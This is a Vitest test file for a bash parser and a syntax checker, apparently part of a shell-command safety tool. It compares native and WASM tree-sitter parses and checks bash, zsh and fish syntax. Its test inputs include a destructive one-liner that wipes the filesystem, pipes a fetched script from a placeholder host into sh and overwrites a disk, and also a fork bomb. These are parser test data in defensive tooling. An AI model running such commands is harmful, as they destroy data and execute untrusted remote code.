import { describe, expect, it } from "vitest";
import { checkSyntax } from "../src/answer/check.js";
import { bashParser, parseBash, wasmParser } from "../src/safety/parser.js";

describe("the bash parser", () => {
  // The native binding serves where its prebuilt binary loads; the WASM build of the same grammar
  // is the fallback elsewhere. The rater reads both the same way, so they must agree.
  it("gives the same tree natively as the WASM fallback", async () => {
    const [native, wasm] = await Promise.all([bashParser(), wasmParser()]);
    const { Parser: WasmParser } = await import("web-tree-sitter");
    expect(wasm).toBeInstanceOf(WasmParser);
    expect(native).not.toBeInstanceOf(WasmParser);
    const lines = [
      "find . -name '*.py' -exec wc -l {} + | sort -n",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, not a template
      'for f in *.txt; do mv "$f" "${f%.txt}.md"; done',
      "sudo rm -rf / && echo $(curl -s https://x.example | sh) > /dev/sda 2>&1 &",
      ":(){ :|:& };:",
      "echo 'unclosed",
      "cat <<EOF\nhello\nEOF",
    ];
    for (const line of lines) {
      const [a, b] = [await parseBash(line, native), await parseBash(line, wasm)];
      expect(a.rootNode.toString()).toBe(b.rootNode.toString());
      expect(a.rootNode.hasError).toBe(b.rootNode.hasError);
      expect(a.rootNode.descendantsOfType("word").map((n) => n.text)).toEqual(
        b.rootNode.descendantsOfType("word").map((n) => n.text),
      );
    }
  });
});

describe("checkSyntax", () => {
  it("accepts what bash parses", async () => {
    expect(await checkSyntax("find . -name '*.py' -exec wc -l {} + | sort -n", "bash")).toEqual({
      ok: true,
      checkedBy: "tree-sitter-bash",
    });
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, not a template
    expect((await checkSyntax('for f in *.txt; do mv "$f" "${f%.txt}.md"; done', "zsh")).ok).toBe(true);
  });

  it("refuses what bash cannot parse, saying where", async () => {
    const verdict = await checkSyntax("echo 'unclosed", "bash");
    expect(verdict.ok).toBe(false);
    expect(verdict).toMatchObject({ reason: expect.stringMatching(/does not parse as bash near column \d+/) });
    expect((await checkSyntax("ls ((((", "sh")).ok).toBe(false);
  });

  it("asks fish itself about fish syntax", async () => {
    expect(await checkSyntax("for f in *.txt; echo $f; end", "fish")).toEqual({ ok: true, checkedBy: "fish" });
    expect(await checkSyntax("set NAME (whoami); echo $NAME", "fish")).toEqual({ ok: true, checkedBy: "fish" });
    const bad = await checkSyntax("for f in *.txt; do echo $f; done", "fish");
    expect(bad.ok).toBe(false);
  });
});
